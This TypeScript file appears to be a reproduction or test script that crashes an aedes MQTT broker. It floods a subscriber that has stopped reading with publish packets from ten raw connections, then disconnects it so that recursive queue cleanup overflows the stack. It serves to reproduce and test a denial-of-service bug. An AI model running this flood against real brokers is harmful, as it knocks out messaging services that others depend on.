import { ask, closed, connectPacket, deafSubscriber, publishPacket, rawConnection } from './raw-mqtt.ts';

const PUBLISHERS = 10;
/** What a broker reads at once; in messages this small it is some 3,000 of them. */
const BYTES = 64 * 1024;

/**
 * A subscriber stops reading while messages for it pile up, then it vanishes. In aedes' own message queue they wait for it,
 * and those that nobody subscribes to any more are then gone through by recursion: the stack overflows (field case A5).
 */
export async function overflow(url: string): Promise<void> {
  const deaf = await deafSubscriber(url);
  const message = publishPacket('flood', 'x'.repeat(10));
  const flood = Buffer.concat(Array.from({ length: Math.floor(BYTES / message.length) }, () => message));
  const publishers = await Promise.all(
    Array.from({ length: PUBLISHERS }, async (_, index) => {
      const socket = await rawConnection(url);
      await ask(socket, connectPacket(`publisher-${index}`));
      return socket;
    }),
  );
  // Twice: the broker goes on from the first flood only while nobody holds it up.
  for (let times = 0; times < 2; times += 1)
    await Promise.all(publishers.map((socket) => new Promise((sent) => socket.write(flood, sent))));
  // The broker has read what the others sent before it answers one that comes later.
  const witness = await rawConnection(url);
  await ask(witness, connectPacket('witness'));
  deaf.destroy();
  await closed(deaf);
}
